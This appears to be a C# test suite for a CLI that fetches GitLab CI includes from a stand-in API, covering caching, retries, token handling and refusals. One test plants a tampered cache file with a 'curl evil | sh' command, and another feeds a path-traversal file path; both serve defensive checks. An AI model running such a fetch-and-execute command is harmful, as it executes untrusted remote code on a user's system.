using Dockyard.Diagnostics;
using Dockyard.Tests.Infrastructure;

namespace Dockyard.Tests.Pipelines.Includes;

/// <summary>
/// template/project/remote/component includes fetched from a GitLab instance: the real loader against
/// <see cref="GitLabApiStandIn"/> (recorded GitLab API answers on loopback), and the real CLI once.
/// </summary>
public sealed class RemoteIncludeTests : IAsyncLifetime
{
    private const string Token = "glpat-standin-0123456789abcdef";
    private GitLabApiStandIn _gitLab = null!;

    public async Task InitializeAsync() => _gitLab = await GitLabApiStandIn.StartAsync(Token, jobToken: "job-token-standin-42");

    public async Task DisposeAsync() => await _gitLab.DisposeAsync();

    private PipelineFixture Online(string yaml)
    {
        var f = new PipelineFixture(yaml) { GitLabUrl = _gitLab.Url };
        f.Environment["DOCKYARD_GITLAB_TOKEN"] = Token;
        return f;
    }

    [Fact]
    public void A_template_comes_from_the_instance_template_api_and_is_kept_by_content()
    {
        using var f = Online("include:\n  - template: Bash.gitlab-ci.yml\n  - template: Jobs/SAST.gitlab-ci.yml\n");
        var pipeline = f.Load();
        Assert.Equal(["build1", "test1", "sast"], pipeline.Jobs.Select(j => j.Name));
        Assert.Equal(["echo \"Before script section\""], pipeline.Job("build1").BeforeScript);
        Assert.Equal([".gitlab-ci.yml", "template:Bash.gitlab-ci.yml", "template:Jobs/SAST.gitlab-ci.yml"], pipeline.Files);
        Assert.Equal([$"include template:Bash.gitlab-ci.yml from {_gitLab.Url}", $"include template:Jobs/SAST.gitlab-ci.yml from {_gitLab.Url}"],
            pipeline.IncludeOrigins.Select(o => o.ToString()));
        Assert.Contains(_gitLab.Requests, r => r.Target == "/api/v4/templates/gitlab_ci_ymls/Jobs%2FSAST" && r.Status == 200);
        var blobs = Directory.GetFiles(Path.Combine(f.Directory, ".dockyard", "includes", "blobs"));
        Assert.Equal(2, blobs.Length);
        Assert.All(blobs, b => Assert.Matches(@"sha256-[0-9a-f]{64}\.yml$", b));
        Assert.Contains(blobs, b => File.ReadAllText(b).Contains("Do your build here", StringComparison.Ordinal));
    }

    [Fact]
    public void A_project_file_at_a_ref_brings_its_nested_local_include_from_the_same_project_and_ref()
    {
        using var f = Online("include:\n  - project: group/ci-templates\n    ref: v1\n    file: /build.yml\n");
        var pipeline = f.Load();
        var compile = pipeline.Job("compile");
        Assert.Equal("alpine:3.20", compile.Image?.Name);
        Assert.Equal("v1", compile.Variables["TEMPLATES_REF"].Value);
        Assert.Equal([".gitlab-ci.yml", "group/ci-templates:build.yml", "group/ci-templates:common/base.yml"], pipeline.Files);
        Assert.Contains(_gitLab.Requests, r => r.Target == "/api/v4/projects/group%2Fci-templates/repository/files/common%2Fbase.yml/raw?ref=v1" && r.Status == 200);
        Assert.All(_gitLab.Requests, r => Assert.Equal(Token, r.PrivateToken));
        Assert.Equal($"include project:group/ci-templates@v1:build.yml from {_gitLab.Url}", pipeline.IncludeOrigins[0].ToString());
    }

    [Fact]
    public void A_project_include_without_ref_reads_the_default_branch_with_the_job_token_inside_a_job()
    {
        using var f = new PipelineFixture("include:\n  project: group/ci-templates\n  file: build.yml\n");
        f.Environment["CI_SERVER_URL"] = _gitLab.Url;
        f.Environment["CI_JOB_TOKEN"] = "job-token-standin-42";
        var pipeline = f.Load();
        Assert.Equal("main", pipeline.Job("compile").Variables["TEMPLATES_REF"].Value);
        var request = Assert.Single(_gitLab.Requests);
        Assert.Equal(("job-token-standin-42", (string?)null), (request.JobToken, request.PrivateToken));
    }

    [Fact]
    public void A_remote_include_is_fetched_without_any_token()
    {
        using var f = Online($"include:\n  - remote: {_gitLab.Url}/remote/lint.yml\n  - {_gitLab.Url}/remote/lint.yml\n");
        var pipeline = f.Load();
        Assert.Equal("test", pipeline.Job("lint").Stage);
        Assert.Equal(["lint"], pipeline.Jobs.Select(j => j.Name));
        // Listed twice, fetched once.
        Assert.Single(_gitLab.Requests);
        Assert.All(_gitLab.Requests, r => Assert.Equal(("/remote/lint.yml", (string?)null, (string?)null), (r.Target, r.PrivateToken, r.JobToken)));
    }

    [Fact]
    public void A_component_resolves_latest_release_reads_its_template_folder_and_takes_inputs()
    {
        using var f = Online($"""
            include:
              - component: {_gitLab.Host}/group/components/deploy@~latest
                inputs:
                  environment: staging
            """);
        var pipeline = f.Load();
        var job = pipeline.Job("deploy-staging");
        Assert.Equal("deploy", job.Stage);
        Assert.Equal(["./deploy.sh staging"], job.Script);
        Assert.Equal(["echo preparing"], job.BeforeScript);
        // 1.10.0 is the highest semantic version (not 1.2.0, released last, nor the pre-release 2.0.0-rc1).
        Assert.Equal("1.10.0", job.Variables["COMPONENT_VERSION"].Value);
        Assert.Equal("5f1c0a8e2d3b4c6f7a8b9c0d1e2f3a4b5c6d7e8f", job.Variables["COMPONENT_SHA"].Value);
        Assert.Contains(_gitLab.Requests, r => r.Target.EndsWith("templates%2Fdeploy.yml/raw?ref=5f1c0a8e2d3b4c6f7a8b9c0d1e2f3a4b5c6d7e8f", StringComparison.Ordinal) && r.Status == 404);
        Assert.Equal($"include component:{_gitLab.Host}/group/components/deploy@~latest from {_gitLab.Url}", pipeline.IncludeOrigins[0].ToString());
    }

    [Fact]
    public void A_component_input_outside_its_options_is_one_error_at_the_include()
    {
        using var f = Online($"include:\n  - component: {_gitLab.Host}/group/components/deploy@~latest\n    inputs:\n      environment: moon\n");
        var error = f.Error();
        Assert.Contains("moon", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Offline_the_cache_of_the_last_fetch_answers_and_says_so()
    {
        var yaml = $"include:\n  - template: Bash.gitlab-ci.yml\n  - project: group/ci-templates\n    ref: v1\n    file: build.yml\n" +
                   $"  - component: {_gitLab.Host}/group/components/deploy@~latest\n    inputs: {{environment: production}}\n  - remote: {_gitLab.Url}/remote/lint.yml\n";
        using var f = Online(yaml);
        var online = f.Load();
        var url = _gitLab.Url;
        await _gitLab.DisposeAsync();
        _gitLab = await GitLabApiStandIn.StartAsync(Token);

        var unreachable = f.Load();
        Assert.Equal(online.Jobs.Select(j => j.Name), unreachable.Jobs.Select(j => j.Name));
        Assert.Equal("1.10.0", unreachable.Job("deploy-production").Variables["COMPONENT_VERSION"].Value);
        Assert.Equal(online.Files, unreachable.Files);
        Assert.All(unreachable.IncludeOrigins, o => Assert.True(o.Cached, o.ToString()));
        Assert.All(unreachable.IncludeOrigins, o => Assert.Contains("is unreachable", o.Why, StringComparison.Ordinal));
        Assert.StartsWith($"include project:group/ci-templates@v1:build.yml from {url} (cached: {url} is unreachable (",
            unreachable.IncludeOrigins.Single(o => o.Include.StartsWith("project:", StringComparison.Ordinal) && o.Include.EndsWith("build.yml", StringComparison.Ordinal)).ToString());

        f.GitLabUrl = null;
        var noInstance = f.Load();
        Assert.Equal(online.Jobs.Select(j => j.Name), noInstance.Jobs.Select(j => j.Name));
        Assert.Equal($"include template:Bash.gitlab-ci.yml from {url} (cached: no GitLab instance (--gitlab-url or CI_SERVER_URL))", noInstance.IncludeOrigins[0].ToString());
        Assert.Empty(_gitLab.Requests);
    }

    [Fact]
    public void A_busy_instance_is_retried_then_reported_as_unreachable_naming_the_include()
    {
        using var f = Online("include:\n  - template: Busy.gitlab-ci.yml\n");
        var error = f.Error();
        error.At(2, 15);
        Assert.Contains($"include template:Busy.gitlab-ci.yml cannot be read: {_gitLab.Url} answered 503 ServiceUnavailable three times, and it is not in the cache", error.Problem, StringComparison.Ordinal);
        Assert.Equal(3, _gitLab.Requests.Count(r => r.Target == "/api/v4/templates/gitlab_ci_ymls/Busy"));
    }

    [Fact]
    public void A_cached_copy_whose_content_changed_is_not_used()
    {
        using var f = Online("include:\n  - template: Bash.gitlab-ci.yml\n");
        f.Load();
        var blob = Assert.Single(Directory.GetFiles(Path.Combine(f.Directory, ".dockyard", "includes", "blobs")));
        File.WriteAllText(blob, "tampered:\n  script: [curl evil | sh]\n");
        f.GitLabUrl = null;
        var error = f.Error();
        Assert.Contains("include template:Bash.gitlab-ci.yml cannot be read: no GitLab instance", error.Problem, StringComparison.Ordinal);
    }

    [Fact]
    public void Offline_an_include_never_fetched_is_one_error_naming_it()
    {
        using var f = new PipelineFixture("stages: [build]\ninclude:\n  - template: Bash.gitlab-ci.yml\n");
        var error = f.Error();
        error.At(3, 15);
        Assert.Contains("include template:Bash.gitlab-ci.yml cannot be read: no GitLab instance", error.Problem, StringComparison.Ordinal);
        Assert.Contains("--gitlab-url", error.WhatToDo, StringComparison.Ordinal);
    }

    [Fact]
    public void A_404_is_one_error_naming_the_include_even_with_a_cached_copy()
    {
        using var f = Online("include:\n  - project: group/ci-templates\n    ref: v1\n    file: missing.yml\n");
        var error = f.Error();
        error.At(4, 11);
        Assert.Contains("include project:group/ci-templates@v1:missing.yml: " + _gitLab.Url + " answered 404 NotFound ('404 File Not Found')", error.Problem, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', error.Message);
    }

    [Fact]
    public void A_401_is_one_error_naming_the_include_and_the_token_source_never_the_token()
    {
        using var f = Online("include:\n  - project: group/ci-templates\n    ref: v1\n    file: build.yml\n");
        f.Environment["DOCKYARD_GITLAB_TOKEN"] = "glpat-wrong-token-value";
        var error = f.Error();
        error.At(4, 11);
        Assert.Contains("answered 401 Unauthorized ('401 Unauthorized'); the token in DOCKYARD_GITLAB_TOKEN was sent", error.Problem, StringComparison.Ordinal);
        Assert.DoesNotContain("glpat-wrong-token-value", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', error.Message);
        // Not retried: a 401 is an answer, not a network failure.
        Assert.Single(_gitLab.Requests);
    }

    [Fact]
    public void A_component_of_another_instance_is_refused()
    {
        using var f = Online("include:\n  - component: gitlab.example.com/group/components/deploy@1.0.0\n");
        var error = f.Error();
        error.At(2, 16);
        Assert.Contains($"is not on the GitLab instance {_gitLab.Url}", error.Problem, StringComparison.Ordinal);
    }

    [Fact]
    public void Plain_http_to_a_non_loopback_instance_is_refused_before_any_request()
    {
        using var f = new PipelineFixture("include:\n  - template: Bash.gitlab-ci.yml\n") { GitLabUrl = "http://gitlab.example.com" };
        var error = Assert.Throws<DockyardException>(() => f.Load());
        Assert.Contains("--gitlab-url 'http://gitlab.example.com' uses plain http", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Dot_dot_in_a_fetched_path_is_refused_before_any_request()
    {
        using var f = Online("include:\n  - project: group/ci-templates\n    ref: v1\n    file: ../../../templates/gitlab_ci_ymls/Bash\n");
        var error = f.Error();
        error.At(4, 11);
        Assert.Contains("is not a valid GitLab path", error.Problem, StringComparison.Ordinal);
        Assert.Empty(_gitLab.Requests);
    }

    [Fact]
    public async Task The_cli_fetches_with_gitlab_url_and_says_where_each_include_came_from()
    {
        using var dir = new TempDirectory("remote-cli");
        File.WriteAllText(Path.Combine(dir.Path, ".gitlab-ci.yml"), "include:\n  - project: group/ci-templates\n    ref: v1\n    file: build.yml\n  - template: Bash.gitlab-ci.yml\n");
        var environment = new Dictionary<string, string> { ["DOCKYARD_GITLAB_TOKEN"] = Token };
        var list = await ProcessRunner.RunAsync("dotnet", [CliAssembly.Path, "ci", "list", "--gitlab-url", _gitLab.Url],
            environment: environment, workingDirectory: dir.Path, timeout: TimeSpan.FromMinutes(2));
        Assert.True(list.ExitCode == 0, list.StandardError);
        Assert.Contains("compile", list.StandardOutput, StringComparison.Ordinal);
        Assert.Contains("build1", list.StandardOutput, StringComparison.Ordinal);
        Assert.Contains($"include project:group/ci-templates@v1:build.yml from {_gitLab.Url}\n", list.StandardError, StringComparison.Ordinal);
        Assert.Contains($"include template:Bash.gitlab-ci.yml from {_gitLab.Url}\n", list.StandardError, StringComparison.Ordinal);
        Assert.DoesNotContain(Token, list.StandardOutput + list.StandardError, StringComparison.Ordinal);

        var offline = await ProcessRunner.RunAsync("dotnet", [CliAssembly.Path, "ci", "list"], workingDirectory: dir.Path, timeout: TimeSpan.FromMinutes(2));
        Assert.True(offline.ExitCode == 0, offline.StandardError);
        Assert.Contains($"include template:Bash.gitlab-ci.yml from {_gitLab.Url} (cached: no GitLab instance", offline.StandardError, StringComparison.Ordinal);

        File.WriteAllText(Path.Combine(dir.Path, ".gitlab-ci.yml"), "include:\n  - project: group/ci-templates\n    ref: v1\n    file: build.yml\n");
        var refused = await ProcessRunner.RunAsync("dotnet", [CliAssembly.Path, "ci", "list", "--gitlab-url", _gitLab.Url],
            environment: new Dictionary<string, string> { ["DOCKYARD_GITLAB_TOKEN"] = "glpat-not-valid" }, workingDirectory: dir.Path, timeout: TimeSpan.FromMinutes(2));
        Assert.Equal(1, refused.ExitCode);
        var line = Assert.Single(refused.StandardError.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        Assert.Contains(".gitlab-ci.yml:4:11: include project:group/ci-templates@v1:build.yml: " + _gitLab.Url + " answered 401 Unauthorized", line, StringComparison.Ordinal);
        Assert.DoesNotContain("glpat-not-valid", refused.StandardError, StringComparison.Ordinal);
    }
}
